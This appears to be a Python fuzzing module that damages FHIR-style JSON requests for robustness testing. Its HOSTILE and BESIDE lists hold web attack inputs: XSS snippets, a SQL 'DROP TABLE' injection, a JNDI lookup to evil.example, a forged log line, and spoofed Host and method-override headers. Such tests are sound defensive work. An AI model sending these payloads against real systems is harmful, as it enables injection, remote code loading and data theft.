"""Small deliberate damage to a JSON request; each change is a value, so that a failure can be shrunk."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Sequence
from copy import deepcopy
from dataclasses import dataclass
from typing import Any

Path = tuple[str | int, ...]

CANARY = "Wolkenstein-4711"
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x)",
    "<iframe srcdoc='<script>'>",
    "**bold** | cell | `code`\n# head\n- item",
    "'; DROP TABLE feedback; --",
    "line one\r\n[2026-06-15 10:00:00] [1] [ERROR] forged line",
    "%s %n {0} {patient.id} ${jndi:ldap://evil.example} {{7*7}}",
    "\u202egnitirw\u2066 \u200b\ufeff",
    "\x00\x01\x1b[31m\x7f\x85",
    "www.evil.example mailto:a@evil.example https://evil.example",
    # A summary shows few characters of a value: each alone.
    "www.evil.example",
    "https://evil.example",
    "a@evil.example",
)
DATES = (
    "", "2026", "2026-02", "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "9999-12-31",
    "10000-01-01",
    "-0044-03-15", "2026-06-15T24:00:00Z", "2026-06-15T10:00", "2026-06-15T10:00:60+14:00", "2026-W24-1",
    "2026-06-15T10:00:00.123456789-12:00", "15.06.2026", "2026-06-15 10:00", "２０２６-06-15", "1900-02-29",
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "today", "P3Y", "2026-06-15T10:00:00Z\n",
)  # fmt: skip
NUMBERS: tuple[Any, ...] = (
    0, -1, 1, -0.0, 2**31, 2**63, -(2**63) - 1, 2**64, 10**30, 1e308, 1e-308, -1e308, 0.1 + 0.2,
    float("nan"), float("inf"), float("-inf"), 5e-324, 10**400,
)  # fmt: skip
# Written into the text afterwards: what json.dumps cannot write.
RAW = {
    "@deep-40@": "[" * 40 + "]" * 40,
    "@deep-300@": '{"a":' * 300 + "1" + "}" * 300,
    "@deep-950@": "[" * 950 + "]" * 950,
    "@deep-5000@": '{"extension":[' * 5000 + "]}" * 5000,
    "@number-long@": "1" * 5000,
    "@number-exponent@": "1e99999999999",
    "@number-zeros@": "0." + "0" * 4000 + "1",
    "@surrogate@": '"\\ud800 \\udfff"',
    "@twice@": '{"code":"a","code":"b","resourceType":"Patient","resourceType":"Bundle"}',
    "@control@": '"a\x01b"',
}
VALUES: tuple[Any, ...] = (
    None, True, False, "", " ", [], {}, [[]], [None], {"": None}, [{}], "A" * 70_000, "é" * 300, "\u0000",
    *NUMBERS, *DATES, *HOSTILE, *RAW, {"resourceType": "Bundle"}, {"resourceType": "OperationOutcome"},
    {"reference": "#"}, {"reference": "Patient/other"}, {"reference": "urn:uuid:x"}, "Bundle", "Patient",
    {"coding": [{"system": "http://snomed.info/sct", "code": 1}]}, {"coding": {"code": "x"}},
    {"value": "abc", "unit": []}, {"value": 1e400}, {"start": "2027", "end": "2020"},
)  # fmt: skip
# Written beside the body: header or query parameter, and its value.
BESIDE = (
    ("Content-Type", "application/fhir+json; charset=utf-8"), ("Content-Type", "text/plain"),
    ("Content-Type", ""),
    ("Content-Type", "application/json; charset=utf-16"), ("Content-Type", "application/json; charset=\x00"),
    ("Content-Encoding", "gzip"), ("Content-Encoding", "identity"), ("Content-Encoding", "x, gzip"),
    ("Accept", "text/html;q=nonsense"), ("Origin", "null"), ("Origin", CANARY),
    ("Host", "evil.example:99999"),
    ("Host", f"{CANARY}@evil.example"), ("Host", ""), ("X-HTTP-Method-Override", "DELETE"),
    ("Range", "bytes=0-1"),
    ("Authorization", f"Bearer {CANARY}"), ("Cookie", CANARY), ("If-None-Match", "*"), ("Expect", CANARY),
    ("X-Forwarded-Host", "evil.example"), ("Accept-Language", CANARY * 200), ("Content-Length", "3"),
    *(("asOf", day) for day in DATES), ("asOf", CANARY), ("validate", CANARY), ("<b>", "1"),
    ("asOf", HOSTILE[0]),
)  # fmt: skip
# Members with words that a card may show.
_TEXTS = frozenset(("display", "text", "unit", "value", "valueString", "code", "reference", "id", "priority"))
KINDS = ("drop", "replace", "duplicate", "swap", "add", "wrap", "unwrap", "rename", "mark")


@dataclass(frozen=True)
class Change:
    """One change of the tree at a path, or (path empty) of the bytes or beside them."""

    kind: str
    path: Path = ()
    value: Any = None

    def __str__(self) -> str:
        shown = repr(self.value)
        return f"{self.kind} {'.'.join(map(str, self.path)) or '(body)'} {shown[:80]}"


def places(tree: Any, path: Path = ()) -> Iterator[Path]:
    """Every place in the tree."""
    members = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    for name, member in members:
        yield (*path, name)
        yield from places(member, (*path, name))


def drawn(tree: Any, number: random.Random) -> list[Change]:
    """One to four changes; few are better: what is wrong all over is refused at its first wrong place."""
    found = list(places(tree))
    changes = [_one(found, number) for _ in range(number.choice((1, 1, 1, 2, 2, 3, 4)))]
    if number.random() < 0.12:
        changes.append(Change(number.choice(("truncate", "bad-utf-8", "bytes", "bom")), (), number.random()))
    if number.random() < 0.08:
        changes.append(Change("beside", (), number.choice(BESIDE)))
    return changes


def _one(found: Sequence[Path], number: random.Random) -> Change:
    # Two draws, the deeper counts less often than its many places would have it.
    path = min(number.choice(found), number.choice(found), key=len)
    kind = number.choice(KINDS)
    if kind == "swap":
        return Change(kind, path, number.choice(found))
    if kind == "rename":
        return Change(kind, path, str(number.choice(found)[-1]))
    if kind == "mark":
        texts = [place for place in found if place[-1] in _TEXTS]
        return Change(kind, number.choice(texts or found), number.choice(HOSTILE))
    return Change(kind, path, number.choice(VALUES))


def changed(tree: Any, changes: Sequence[Change]) -> bytes:
    """The request with those changes; one whose place is gone changes nothing."""
    tree = deepcopy(tree)
    for change in changes:
        if change.path:
            try:
                tree = _applied(tree, change)
            except (KeyError, IndexError, TypeError, AttributeError):
                continue
    text = json.dumps(tree)
    for mark, raw in RAW.items():
        text = text.replace(json.dumps(mark), raw)
    body = text.encode("utf-8", "surrogatepass")
    for change in changes:
        if not change.path and change.kind != "beside":
            at = int(change.value * len(body))
            body = {
                "truncate": body[:at],
                "bad-utf-8": body[:at] + b"\xff\xc0\x80" + body[at:],
                "bytes": body[:at] + bytes((at % 256,)) + body[at + 1 :],
                "bom": b"\xef\xbb\xbf" + body,
            }[change.kind]
    return body


def _applied(tree: Any, change: Change) -> Any:
    *way, last = change.path
    parent = tree
    for name in way:
        parent = parent[name]
    value = deepcopy(change.value)
    old = parent[last]
    if change.kind == "drop":
        del parent[last]
    elif change.kind == "replace":
        parent[last] = value
    elif change.kind == "duplicate" and isinstance(parent, list):
        parent.insert(int(last), deepcopy(old))
    elif change.kind == "duplicate":
        parent[last] = [deepcopy(old), deepcopy(old)]
    elif change.kind == "add" and isinstance(old, list):
        old.append(value)
    elif change.kind == "add" and isinstance(old, dict):
        old["extension"] = value
    elif change.kind == "wrap":
        parent[last] = [old]
    elif change.kind == "unwrap":
        parent[last] = next(iter(old.values() if isinstance(old, dict) else old), None)
    elif change.kind == "rename":
        parent[value] = parent.pop(last)
    elif change.kind == "mark":
        # Behind what stands there, so that a medicine that is known by its name still is; of a long name the
        # end is not shown.
        parent[last] = f"{old if isinstance(old, str) else ''} {value} {CANARY}".strip()
    elif change.kind == "swap":
        *other_way, other = value
        beside = tree
        for name in other_way:
            beside = beside[name]
        parent[last], beside[other] = deepcopy(beside[other]), deepcopy(old)
    return tree
